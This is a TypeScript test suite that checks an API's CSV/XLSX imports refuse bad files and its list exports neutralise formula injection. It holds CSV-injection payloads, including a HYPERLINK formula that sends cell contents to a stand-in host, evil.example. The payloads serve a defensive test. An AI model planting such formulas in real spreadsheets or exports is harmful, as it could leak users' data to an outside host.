import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { Response } from 'supertest';
import { parseCsv } from '@/common/files/tabular';
import { selectRows, toInt } from '@/database/dialect';
import { bearer, createUser, UserRef } from '../factories';
import { demandBody } from '../factories/demands';
import { xlsxBytes } from '../factories/files';
import { importRow, REPORT_IMPORT_HEADER, shadowBody } from '../factories/reports';
import { badFiles, BadFile } from '../files/bad-files';
import { API, FuzzFixture } from '../fuzz/api-requests';
import { changedTables, databaseFingerprint, tableNames, waitForJobs } from '../fuzz/db-fingerprint';
import { judgeAnswer, short } from '../fuzz/judge';
import { TestApp } from '../utils/test-app';
import openapi from '../../openapi.json';

/**
 * Issue 10, point 5: imports refuse malformed, truncated and oversized CSV/XLSX files cleanly (a
 * named 4xx, or for a job import a job that fails naming the problem; nothing written; never a
 * 5xx; the server still healthy), and every list export neutralises formula injection in text
 * cells while numbers stay numbers, in CSV and in XLSX.
 */

/** Cases the product is known to get wrong in code other agents own now (issue 10 brief): kept, skipped, printed. Key `route | file label`. */
const KNOWN_BUGS: Record<string, string> = {};

/** Text a spreadsheet would run as a formula or split on (OWASP CSV injection), and the full-width forms src/common/export/cells.ts also neutralises. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1', '-5'];

interface ImportRoute {
  route: string;
  as: () => UserRef;
  header: string[];
  rows: () => string[][];
  /** A job import answers 202 and the job carries the outcome (DESIGN §3 Jobs). */
  job: boolean;
}

describe('import and export files (issue 10.5)', () => {
  let t: TestApp;
  let fx: FuzzFixture;
  let tables: string[];
  const figures = { files: 0, imports: 0, exports: 0, cells: 0 };
  const skipped: string[] = [];

  beforeAll(async () => {
    t = await TestApp.start();
    fx = await FuzzFixture.build(t);
    tables = await tableNames(t);
  }, 120_000);
  afterAll(async () => {
    console.log(
      `import/export files: ${figures.files} bad files over ${figures.imports} import routes; ${figures.exports} exports (list × format), ${figures.cells} cells checked` +
        (skipped.length ? `\nknownBug cases skipped:\n${skipped.join('\n')}` : ''),
    );
    await t?.close();
  });

  describe('imports refuse bad files cleanly', () => {
    const DEMANDS_HEADER = parseCsv(readFileSync(join(__dirname, '..', '..', 'data', 'templates', 'demands-import.csv'))).columns;
    const routes: ImportRoute[] = [
      {
        route: 'POST /org-units/import',
        as: () => fx.users.admin,
        header: ['code', 'name', 'level', 'parentCode', 'kind', 'staffCount'],
        rows: () => [
          ['532503002201', '导入测试村一', 'village', '532503002', 'area', '5'],
          ['532503002202', '导入测试村二（新建）', 'village', '532503002', 'area', '7'],
        ],
        job: false,
      },
      {
        route: 'POST /burden-reports/import',
        as: () => fx.users.reporter,
        header: REPORT_IMPORT_HEADER,
        rows: () => [
          importRow({ unitCode: fx.tree.wenlan.code, shadowIssuerName: '县某局', shadowKind: 'report', shadowTitle: '导入临时报送一', shadowReceivedOn: '2026-09-03', shadowChannel: 'wechat_group', hoursSpent: 2 }),
          importRow({ unitCode: fx.tree.wenlan.code, shadowIssuerName: '县某某局', shadowKind: 'report', shadowTitle: '导入临时报送二（紧急）', shadowReceivedOn: '2026-09-04', shadowChannel: 'wechat_group', hoursSpent: 3 }),
        ],
        job: false,
      },
      {
        route: 'POST /demands/import',
        as: () => fx.users.issuer,
        header: DEMANDS_HEADER,
        rows: () =>
          ['导入报表一', '导入报表二（学生资助）'].map((title) =>
            DEMANDS_HEADER.map(
              (c) =>
                ({ issuerCode: fx.tree.education.code, kind: 'report', title, topic: 'education', issuedOn: '2026-09-01', dueOn: '2026-09-10', targetCodes: fx.tree.wenlan.code, fields: '在校学生数;教师总数' })[c] ?? '',
            ),
          ),
        job: true,
      },
    ];

    it('covers every import route of the API', () => {
      const imports = Object.keys((openapi as { paths: Record<string, unknown> }).paths).filter((p) => p.endsWith('/import'));
      expect(imports.map((p) => `POST ${p.slice(API.length)}`).sort()).toEqual(routes.map((r) => r.route).sort());
    });

    /** The audit entries that are not about jobs: a job import writes its job's start, never the rows of a refused file. */
    const auditOfData = async () =>
      toInt((await selectRows<{ n: number | string }>(t.db, `SELECT COUNT(*) AS n FROM audit_log WHERE action NOT LIKE 'job.%'`))[0].n);

    /** Follows a job to its end. */
    async function ended(jobId: number, as: UserRef): Promise<{ status: string; error?: { message?: unknown; details?: unknown; code?: unknown } }> {
      for (let i = 0; i < 600; i += 1) {
        const job = await t.http.get(`${API}/jobs/${jobId}`).set(bearer(as));
        if (job.status !== 200) throw new Error(`job ${jobId}: ${job.status}`);
        if (job.body.status === 'succeeded' || job.body.status === 'failed') return job.body as { status: string };
        await new Promise((r) => setTimeout(r, 100));
      }
      throw new Error(`job ${jobId} did not end`);
    }

    /** What is wrong with the answer to a bad file, or null. */
    async function judgeImport(r: ImportRoute, file: BadFile, res: Response): Promise<string | null> {
      if (file.oversized) return res.status === 413 ? judgeAnswer(res, null) : `expected 413, got ${res.status} ${short(res.text)}`;
      if (res.status >= 400) return judgeAnswer(res, null);
      if (r.job && res.status === 202) {
        const job = await ended((res.body as { jobId: number }).jobId, r.as());
        if (job.status !== 'failed') return `the job ${job.status} on a bad file`;
        const message = job.error?.message;
        return typeof message === 'string' && message.trim().length > 0 ? null : `the job failed without a message: ${JSON.stringify(job.error)}`;
      }
      return `accepted a bad file: ${res.status} ${short(res.text)}`;
    }

    for (const r of routes) {
      it(`${r.route}: malformed, truncated and oversized files are refused, nothing written, the server healthy`, async () => {
        const xlsx = await xlsxBytes([r.header, ...r.rows()], 'import');
        const files = badFiles(r.header, r.rows(), xlsx);
        expect(files.length).toBeGreaterThanOrEqual(18);
        const problems: string[] = [];
        figures.imports += 1;
        const [method, path] = r.route.split(' ');
        expect(method).toBe('POST');
        for (const file of files) {
          figures.files += 1;
          const known = KNOWN_BUGS[`${r.route} | ${file.label}`];
          if (known) {
            skipped.push(`knownBug ${r.route} | ${file.label}: ${known}`);
            continue;
          }
          await waitForJobs(t);
          const before = await databaseFingerprint(t, tables);
          const auditBefore = await auditOfData();
          let res: Response;
          try {
            res = await t.http.post(`${API}${path}`).set(bearer(r.as())).attach('file', file.bytes, file.filename);
          } catch (error) {
            problems.push(`${file.label}: no answer (${(error as Error).message})`);
            continue;
          }
          const problem = await judgeImport(r, file, res);
          if (problem) problems.push(`${file.label}: ${problem}`);
          await waitForJobs(t);
          const after = await databaseFingerprint(t, tables);
          // A job import keeps its job row and the job's own audit entry; every other table stays as it was.
          const changed = changedTables(before, after).filter((table) => !(r.job && ['jobs', 'audit_log', 'audit_head'].includes(table)));
          if (changed.length) problems.push(`${file.label}: ${res.status} but the database changed: ${changed.join(', ')}`);
          if ((await auditOfData()) !== auditBefore) problems.push(`${file.label}: ${res.status} but audit entries about data were written`);
          const health = await t.http.get(`${API}/health`);
          if (health.status !== 200) problems.push(`${file.label}: the server is not healthy afterwards (${health.status})`);
        }
        expect(problems).toEqual([]);
      }, 300_000);
    }
  });

  describe('exports neutralise formulas in text and keep numbers as numbers', () => {
    /** Every list that downloads as csv|xlsx (per openapi.json), with a caller who sees the planted rows. */
    const LISTS: Record<string, { as: () => UserRef; query?: string; planted: boolean }> = {
      '/org-units': { as: () => fx.users.admin, planted: true },
      '/topics': { as: () => fx.users.reporter, planted: false },
      '/duty-items': { as: () => fx.users.reporter, planted: true },
      '/users': { as: () => fx.users.admin, planted: true },
      '/policy/versions': { as: () => fx.users.admin, planted: true },
      '/jobs': { as: () => fx.users.admin, planted: false },
      '/audit': { as: () => fx.users.admin, planted: false },
      '/demands': { as: () => fx.users.coordinator, planted: true },
      '/objections': { as: () => fx.users.coordinator, planted: true },
      '/burden-reports': { as: () => fx.users.coordinator, planted: true },
      '/monitoring-points': { as: () => fx.users.coordinator, query: 'period=2026-09', planted: true },
      '/flags': { as: () => fx.users.coordinator, planted: false },
      '/inspection-plans': { as: () => fx.users.coordinator, planted: true },
      '/joint-inspections/suggestions': { as: () => fx.users.coordinator, query: 'from=2026-01-01&to=2026-12-31', planted: false },
      '/metrics/units': { as: () => fx.users.coordinator, query: `level=village&period=2026`, planted: true },
      '/metrics/issuers': { as: () => fx.users.coordinator, query: 'period=2026', planted: true },
      '/cases': { as: () => fx.users.inspector, planted: true },
    };
    /** What each planted formula was stored as, per list (a value the API refused is not planted). */
    const stored = new Map<string, Set<string>>();
    const plant = (list: string, value: string) => stored.set(list, (stored.get(list) ?? new Set()).add(value));
    /** Values the API refused (4xx), printed: a refusal is allowed, but a list left with nothing planted fails below. */
    const refused: string[] = [];

    beforeAll(async () => {
      const { admin, issuer, reporter, coordinator, inspector } = fx.users;
      const ok = async (req: PromiseLike<Response>, list: string[], value: string): Promise<Response | null> => {
        const res = await req;
        if (res.status >= 500) throw new Error(`planting ${JSON.stringify(value)}: ${res.status} ${res.text}`);
        if (res.status >= 300) {
          refused.push(`${list.join(',') || '-'} ${JSON.stringify(value)}: ${res.status} ${short(res.text, 160)}`);
          return null;
        }
        for (const l of list) plant(l, value);
        return res;
      };
      const policy = JSON.parse(readFileSync(join(__dirname, '..', '..', 'data', 'policy.json'), 'utf8')) as Record<string, unknown>;
      delete policy.version;
      const villages: number[] = [];
      for (const [i, formula] of FORMULAS.entries()) {
        const unit = await ok(t.http.post(`${API}/org-units`).set(bearer(admin)).send({ code: `53250300230${i}`, name: formula, kind: 'area', level: 'village', parentId: fx.tree.yuguopu.id, staffCount: 3 }), ['/org-units', '/metrics/units', '/monitoring-points'], formula);
        if (unit) villages.push((unit.body as { id: number }).id);
        await ok(t.http.post(`${API}/org-units`).set(bearer(admin)).send({ code: `532503-FX${i}`, name: formula, kind: 'department', level: 'county', parentId: fx.tree.mengzi.id }), [], formula);
        await ok(t.http.post(`${API}/duty-items`).set(bearer(admin)).send({ level: 'village', topic: 'education', category: 'core', title: formula }), ['/duty-items'], formula);
        await ok(t.http.post(`${API}/users`).set(bearer(admin)).send({ username: `formula-${i}`, password: 'password-123456', role: 'reporter', orgUnitId: fx.tree.wenlan.id, displayName: formula }), ['/users'], formula);
        await ok(t.http.put(`${API}/policy`).set(bearer(admin)).send({ ...policy, effectiveFrom: `2031-01-${String(10 + i)}`, note: formula }), ['/policy/versions'], formula);
        const demand = await ok(t.http.post(`${API}/demands`).set(bearer(issuer)).send(demandBody('report', fx.tree, { title: formula, recurrence: 'daily', until: '2026-09-30' })), ['/demands'], formula);
        if (demand) {
          const demandId = (demand.body as { id: number }).id;
          await ok(t.http.post(`${API}/demands/${demandId}/objections`).set(bearer(reporter)).send({ reason: formula }), ['/objections'], formula);
          const flags = await t.http.get(`${API}/flags?demandId=${demandId}`).set(bearer(coordinator));
          let flag = (flags.body as { items: { id: number; version: number }[] }).items[0];
          for (const to of ['under_review', 'confirmed']) {
            const moved = await ok(t.http.post(`${API}/flags/${flag.id}/transitions`).set(bearer(coordinator)).send({ to, version: flag.version, comment: formula }), [], formula);
            if (moved) flag = moved.body as typeof flag;
          }
          await ok(t.http.post(`${API}/cases`).set(bearer(inspector)).send({ flagIds: [flag.id], title: formula, category: '多头填报、重复报表' }), ['/cases'], formula);
        }
        await ok(t.http.post(`${API}/burden-reports`).set(bearer(reporter)).send(shadowBody({ note: formula }, { title: formula, issuerName: formula })), ['/burden-reports'], formula);
        await ok(t.http.post(`${API}/inspection-plans`).set(bearer(issuer)).send({ year: 2040 + i, title: formula, items: [{ title: formula, topic: 'education', targetLevel: 'township', plannedMonth: `${2040 + i}-05`, onSiteDays: 1 }] }), ['/inspection-plans'], formula);
      }
      // An issuer named as a formula that has imposed hours, for the issuer ranking.
      const [office] = await selectRows<{ id: number | string }>(t.db, `SELECT id FROM org_units WHERE code = '532503-FX0'`);
      if (office) {
        const officeIssuer = await createUser(t, 'issuer', { id: toInt(office.id), code: '532503-FX0', path: '' });
        const res = await t.http.post(`${API}/demands`).set(bearer(officeIssuer)).send(demandBody('meeting', fx.tree, { title: '会议通知' }));
        if (res.status === 201) plant('/metrics/issuers', FORMULAS[0]);
      }
      if (villages.length) await t.http.put(`${API}/monitoring-points`).set(bearer(coordinator)).send({ unitIds: villages, from: '2026-01' }).expect(200);
      await waitForJobs(t);
    }, 300_000);

    const download = (url: string, as: UserRef) =>
      t.http
        .get(url)
        .set(bearer(as))
        .buffer(true)
        .parse((res, done) => {
          const chunks: Buffer[] = [];
          res.on('data', (chunk: Buffer) => chunks.push(chunk));
          res.on('end', () => done(null, Buffer.concat(chunks)));
        });

    it('covers every list that exports', () => {
      const doc = openapi as unknown as { paths: Record<string, { get?: { parameters?: { name: string; schema?: { enum?: string[] } }[] } }> };
      const exporting = Object.entries(doc.paths)
        .filter(([, ops]) => ops.get?.parameters?.some((p) => p.name === 'format' && p.schema?.enum?.includes('xlsx')))
        .map(([path]) => path.slice(API.length));
      expect(exporting.sort()).toEqual(Object.keys(LISTS).sort());
    });

    it('the API stored the formulas as text (the planting reached every list it is meant to)', () => {
      const missing = Object.entries(LISTS)
        .filter(([list, l]) => l.planted && !(stored.get(list)?.size ?? 0))
        .map(([list]) => list);
      if (missing.length) console.log(`refused while planting:\n${refused.join('\n')}`);
      expect(missing).toEqual([]);
      // At least the plain ASCII formulas went in as typed.
      expect([...(stored.get('/demands') ?? [])]).toEqual(expect.arrayContaining(['=HYPERLINK("http://evil.example/?q="&A1,"点我")', '+1+1', '-2+3', '@SUM(A1:A9)', '-5']));
    });

    const startsWithTrigger = (text: string) => text.length > 0 && TRIGGERS.includes(text[0]);

    for (const list of Object.keys(LISTS)) {
      it(`${list}: no text cell starts a formula, in CSV or XLSX; numbers are numbers in both; the planted formulas are there, escaped`, async () => {
        const { as, query } = LISTS[list];
        const url = (format: string) => `${API}${list}?${query ? `${query}&` : ''}format=${format}`;
        const csvRes = await download(url('csv'), as());
        const xlsxRes = await download(url('xlsx'), as());
        expect([csvRes.status, xlsxRes.status]).toEqual([200, 200]);
        figures.exports += 2;
        const csvBody = csvRes.body as Buffer;
        const records = parse(csvBody.subarray(3).toString('utf8'), { relax_column_count: false }) as string[][];
        const workbook = new ExcelJS.Workbook();
        // exceljs types its parameter as an ArrayBuffer-backed Buffer; a Node Buffer's bytes are the same.
        await workbook.xlsx.load(xlsxRes.body as ArrayBuffer);
        const sheet = workbook.worksheets[0];
        const problems: string[] = [];
        expect(sheet.rowCount).toBe(records.length);
        const textCells: string[] = [];
        for (let r = 0; r < records.length; r += 1) {
          const row = sheet.getRow(r + 1);
          for (let c = 0; c < records[r].length; c += 1) {
            figures.cells += 2;
            const csvCell = records[r][c];
            const cell = row.getCell(c + 1);
            const where = `row ${r + 1} column ${records[0][c]}`;
            if (cell.type === ExcelJS.ValueType.Formula) problems.push(`XLSX ${where} is a formula: ${JSON.stringify(cell.value)}`);
            if (cell.type === ExcelJS.ValueType.Number) {
              // A number, negative ones included, is written as a number in both: never prefixed.
              const number = cell.value as number;
              if (csvCell !== String(number)) problems.push(`${where}: XLSX number ${number} but CSV ${JSON.stringify(csvCell)}`);
              continue;
            }
            if (typeof cell.value === 'string') {
              textCells.push(cell.value);
              if (startsWithTrigger(cell.value)) problems.push(`XLSX ${where} is unescaped text ${JSON.stringify(cell.value)}`);
            }
            if (startsWithTrigger(csvCell)) problems.push(`CSV ${where} is unescaped text ${JSON.stringify(csvCell)}`);
            // XML turns a raw carriage return into a line feed when the workbook is read back; that is no injection.
            if (typeof cell.value === 'string' && cell.value !== csvCell.replace(/\r\n?/g, '\n')) problems.push(`${where}: XLSX ${JSON.stringify(cell.value)} but CSV ${JSON.stringify(csvCell)}`);
          }
        }
        // Each formula the API stored for this list appears escaped: a ' before it, as text.
        for (const formula of stored.get(list) ?? []) {
          const escaped = [`'${formula}`, `'${formula.trim()}`, `'${formula.replace(/\r/g, '\n')}`];
          if (!textCells.some((cell) => escaped.some((e) => cell === e || cell.includes(e)))) problems.push(`the planted ${JSON.stringify(formula)} is not in the XLSX as escaped text`);
        }
        expect(problems).toEqual([]);
      }, 120_000);
    }
  });
});
